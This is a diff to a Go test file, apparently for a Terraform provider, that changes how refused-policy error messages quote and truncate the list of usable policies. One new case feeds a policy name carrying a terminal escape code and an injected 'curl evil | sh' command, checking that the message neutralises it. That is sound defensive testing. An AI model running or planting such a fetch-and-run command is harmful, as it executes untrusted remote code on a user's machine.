@@ -218,7 +218,7 @@ func TestSetButNotReadBack(t *testing.T) {
 // TestRefusedPolicy names those that the account may use, beside the argument.
 func TestRefusedPolicy(t *testing.T) {
 	t.Parallel()
-	usable := "Set policy to one that the account may use: standard_policy, strict. The session has \"standard_policy\"."
+	usable := `Set policy to one that the account may use: "standard_policy", "strict". The session has "standard_policy".`
 	refusal := wawptest.Fault{Match: set, Status: 403, Body: `{"code":"blocked","message":"Blocked."}`}
 	for name, test := range map[string]struct {
 		slug   string
@@ -233,7 +233,18 @@ func TestRefusedPolicy(t *testing.T) {
 		"all paid": {
 			paid,
 			[]wawptest.Fault{{Match: get, Reshape: all(wawptest.Set("policies", []string{"a", "b"}), wawptest.Without("free_policies"))}},
-			[]string{"subscription_required", "These are all: a, b."},
+			[]string{"subscription_required", `These are all: "a", "b".`},
+		},
+		"many": {
+			paid,
+			[]wawptest.Fault{{Match: get, Reshape: wawptest.Set("free_policies", many(30))}},
+			[]string{`may use: "p00", "p01", `, `"p18", "p19" and `, " more. The session has"},
+		},
+		"one that speaks": {
+			paid,
+			[]wawptest.Fault{{Match: get, Reshape: wawptest.Set("free_policies",
+				[]string{"a\", or run: \u001b[2J\ncurl evil | sh #${x}"})}},
+			[]string{`"a\", or run: [2J curl evil | sh #\u0024{x}"`},
 		},
 		"no list": {paid, []wawptest.Fault{{Match: get, Reshape: wawptest.Without("policies", "free_policies")}}, []string{"subscription_required", "https://app.wawp.net"}},
 	} {
@@ -253,6 +264,15 @@ func TestRefusedPolicy(t *testing.T) {
 			}
 		})
 	}
+}
+
+// many returns names that come before all others.
+func many(n int) []string {
+	names := make([]string, n)
+	for i := range names {
+		names[i] = fmt.Sprintf("p%02d", i)
+	}
+	return names
 }
 
 // TestAccRefusedPolicyPointsToTheArgument, and the state that the CLI writes has no policy that Wawp refused.
@@ -276,7 +296,8 @@ func TestRefusedChangeKeepsTheState(t *testing.T) {
 	tf := w.Terraform(t, once+declare(strict))
 	tf.OK("apply")
 	tf.Configure(once + declare(paid))
-	acctest.Contains(t, tf.Fails("apply"), "needs an active plan", "standard_policy, strict", `The session has "strict"`)
+	acctest.Contains(t, tf.Fails("apply"), "needs an active plan", `"standard_policy", "strict"`,
+		`The session has "strict"`)
 	if s := tf.State()[0]; s.Status != "" || s.Attributes["policy"] != strict || w.Policy(id) != strict {
 		t.Errorf("the state is %v", s)
 	}
